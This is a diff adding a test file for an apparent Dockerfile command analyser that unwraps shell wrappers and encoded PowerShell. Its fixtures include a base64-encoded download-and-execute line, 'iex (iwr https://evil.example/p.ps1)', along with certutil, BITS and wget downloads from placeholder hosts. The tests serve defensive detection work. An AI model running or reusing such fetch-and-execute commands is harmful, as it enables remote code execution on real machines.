@@ -1,0 +1,86 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { buildDockerfileModel } from '../dockerfile/model';
+import { createDocument } from '../text';
+import { runAnalyses, type LocatedCommand } from './runAnalysis';
+
+function analyse(text: string) {
+  const document = createDocument(text);
+  const runs = runAnalyses(buildDockerfileModel(document));
+  const at = (c: LocatedCommand, token = c.command.name) => document.getText(c.rangeOf(token));
+  return { runs, at };
+}
+
+test('effective shell: cmd on Windows stages, SHELL switches it, /bin/sh on Linux, parent stage inherited', () => {
+  const { runs } = analyse([
+    '# escape=`',
+    'FROM mcr.microsoft.com/windows/servercore:ltsc2025 AS build',
+    'RUN echo one',
+    'SHELL ["powershell", "-Command", "$ErrorActionPreference = \'Stop\';"]',
+    'RUN Write-Host two',
+    'FROM build AS more',
+    'RUN Write-Host three',
+    'FROM debian:12',
+    'RUN echo four',
+    '',
+  ].join('\n'));
+  assert.deepEqual(runs.map((r) => r.shell), ['cmd', 'powershell', 'powershell', 'posix']);
+});
+
+test('line continuations and comment lines are removed, and ranges still point at the document', () => {
+  const text = '# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2025\nSHELL ["powershell", "-Command"]\nRUN Write-Host a; `\n    # explain\n\n    Invoke-WebRequest -Uri https://x.example/y -OutFile y\n';
+  const { runs, at } = analyse(text);
+  const iwr = runs[0]!.commands.find((c) => c.name === 'invoke-webrequest')!;
+  assert.equal(at(iwr), 'Invoke-WebRequest');
+  assert.deepEqual(iwr.rangeOf(iwr.command.name).start, { line: 6, character: 4 });
+  assert.equal(at(iwr, iwr.command.args[1]), 'https://x.example/y');
+});
+
+test('wrappers are opened: powershell -Command in cmd, cmd /S /C in PowerShell, sh -c, JSON form, -EncodedCommand', () => {
+  const encoded = Buffer.from("iex (iwr https://evil.example/p.ps1)", 'utf16le').toString('base64');
+  const text = [
+    'FROM mcr.microsoft.com/windows/servercore:ltsc2025',
+    'RUN powershell -NoProfile -ExecutionPolicy Bypass -Command "Invoke-WebRequest https://a.example/x -OutFile x"',
+    'RUN ["powershell", "-Command", "Start-BitsTransfer -Source https://b.example/y -Destination y"]',
+    `RUN powershell -EncodedCommand ${encoded}`,
+    'SHELL ["powershell", "-Command"]',
+    'RUN cmd /S /C "certutil -urlcache -split -f https://c.example/z z"',
+    'FROM alpine:3.20',
+    'RUN sh -c "wget -O /w https://d.example/w"',
+    '',
+  ].join('\n');
+  const { runs, at } = analyse(text);
+  const names = runs.map((r) => r.commands.map((c) => c.name).filter(Boolean));
+  assert.deepEqual(names, [
+    ['powershell', 'invoke-webrequest'],
+    ['powershell', 'start-bitstransfer'],
+    ['powershell', 'iex', 'iwr'],
+    ['cmd', 'certutil'],
+    ['sh', 'wget'],
+  ]);
+  const iwr = runs[0]!.commands[1]!;
+  assert.equal(at(iwr), 'Invoke-WebRequest');
+  assert.equal(at(iwr, iwr.command.args[0]), 'https://a.example/x');
+  const bits = runs[1]!.commands[1]!;
+  assert.equal(at(bits, bits.command.args[1]), 'https://b.example/y');
+  assert.equal(at(runs[2]!.commands[1]!), encoded, 'decoded commands point at the encoded argument');
+  const certutil = runs[3]!.commands[1]!;
+  assert.equal(at(certutil), 'certutil');
+  assert.equal(at(runs[4]!.commands[1]!), 'wget');
+});
+
+test('half-typed RUN lines never throw and keep ranges inside the document', () => {
+  const samples = ['FROM x\nRUN powershell -Command "iwr', 'FROM x\nRUN ["powershell", "-Comm', 'FROM x\nRUN cmd /c "(', 'FROM x\nRUN bash -c \'$(', 'FROM x\nRUN `\n'];
+  for (const sample of samples) {
+    for (let cut = 0; cut <= sample.length; cut++) {
+      const text = sample.slice(0, cut);
+      const { runs } = analyse(text);
+      for (const command of runs.flatMap((r) => r.commands)) {
+        for (const token of [command.command.name, ...command.command.args]) {
+          const range = command.rangeOf(token);
+          assert.ok(range.end.line <= text.split('\n').length, JSON.stringify(text));
+        }
+      }
+    }
+  }
+});
